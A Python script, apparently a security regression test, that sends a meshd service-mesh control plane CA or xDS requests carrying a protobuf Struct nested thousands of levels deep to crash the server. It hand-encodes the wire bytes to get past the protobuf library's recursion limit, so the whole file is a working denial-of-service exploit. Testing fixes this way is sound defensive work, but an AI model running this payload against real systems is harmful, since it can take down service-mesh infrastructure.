#!/usr/bin/python3
"""pb_deep.py - the "one node's credential crashes meshd" attack (issue 9, attack 2).

A valid node token and a google.protobuf.Struct nested DEPTH levels deep, in the
metadata every proxy sends: IstioCertificateRequest.metadata (CA) or
DeltaDiscoveryRequest.node.metadata (xDS). The nesting is written by hand as wire
bytes (python3-protobuf refuses to build or serialize it past its own recursion
limit), each level a Value holding a ListValue holding the next Value:

  Value{list_value(6): ListValue{values(1): Value{list_value(6): ...}}}

so one level is two messages and about 6 bytes; 5000 levels are ~30 KB. The rest
of the request is a normal one made with python3-protobuf (protobuf merges a
message field that occurs twice, so the deep entry is appended as a second
metadata field). Transport: tests/support/cp_client.py (TLS 1.3, h2, gRPC).

  pb_deep.py ca  --addr A --root R --token F --identity URI --depth N
  pb_deep.py xds --addr A --root R --token F --depth N

Prints "status: N" and "grpc-message: ..." per call (and "error: ..." when the
server went away without a status, e.g. because it crashed); with
--expect-status the exit code is 0 only when every one of the --repeat calls
ended with that gRPC status.
"""
import argparse
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import cp_client  # noqa: E402


def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def ld(field, payload):
    """A length-delimited field (wire type 2)."""
    return varint(field << 3 | 2) + varint(len(payload)) + payload


def value_levels(levels):
    """A google.protobuf.Value holding exactly |levels| messages (Value, ListValue,
    Value, ...), the innermost empty: list_value is field 6 of Value, values field 1
    of ListValue."""
    v = b""
    for level in range(levels - 1, 0, -1):  # the parent at |level|: odd Value, even ListValue
        v = ld(6 if level % 2 == 1 else 1, v)
    return v


def deep_value(depth):
    """A google.protobuf.Value |depth| ListValues deep (2 * depth + 1 messages)."""
    return value_levels(2 * depth + 1)


def struct_with(value):
    """A Struct {"deep": value} (a map entry: key 1, value 2)."""
    return ld(1, ld(1, b"deep") + ld(2, value))


def deep_struct(depth):
    return struct_with(deep_value(depth))


def ca_request(pb, args):
    _key, csr = cp_client.make_csr("ok", args.identity)
    req = pb["ca"].IstioCertificateRequest()
    req.csr = csr
    req.metadata.fields["ImpersonatedIdentity"].string_value = args.identity
    return req.SerializeToString() + ld(4, deep_struct(args.depth))


def xds_request(pb, args):
    q = pb["discovery"].DeltaDiscoveryRequest()
    args.node_id, args.node_name = cp_client.DEFAULT_NODE_ID, None
    q.node.CopyFrom(cp_client.node_msg(pb, args))
    q.type_url = cp_client.TYPE_ADDRESS
    return q.SerializeToString() + ld(1, ld(3, deep_struct(args.depth)))


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    sub = ap.add_subparsers(dest="cmd", required=True)
    for name in ("ca", "xds"):
        p = sub.add_parser(name)
        cp_client.common(p)
        p.add_argument("--depth", type=int, default=5000, help="nesting levels (Value/ListValue pairs)")
        p.add_argument("--repeat", type=int, default=1, help="calls, one after the other, on one connection")
        if name == "ca":
            p.add_argument("--identity", required=True)
    args = ap.parse_args()
    pb = cp_client.load_pb(args)
    msg = ca_request(pb, args) if args.cmd == "ca" else xds_request(pb, args)
    path = cp_client.CA_PATH if args.cmd == "ca" else cp_client.XDS_PATH
    cp_client.log("request: %s, %d bytes, metadata %d levels deep" % (args.cmd, len(msg), args.depth))

    dl = cp_client.Deadline(args.timeout)
    conn = None
    results = []
    try:
        conn = cp_client.Conn(cp_client.tls_connect(args, dl), dl, args)
        for _ in range(args.repeat):  # one call (stream) after the other on one connection
            call = conn.start_call(path, cp_client.read_token(args, args.cmd))
            conn.send(call, msg, end=args.cmd == "ca")
            conn.wait(lambda: call.ended, "the server's answer")
            results.append(call.status())
    except cp_client.Fail as e:
        cp_client.log("error: %s" % e)
    finally:
        if conn is not None:
            conn.close()
    for status, message in results:
        cp_client.log("status: %s" % ("none" if status is None else status))
        cp_client.log("grpc-message: %s" % (message or ""))
    cp_client.log("calls: %d of %d answered" % (len(results), args.repeat))
    if args.expect_status is None:
        return 0
    ok = len(results) == args.repeat and all(st == args.expect_status for st, _ in results)
    return 0 if ok else 1

if __name__ == "__main__":
    sys.exit(main())
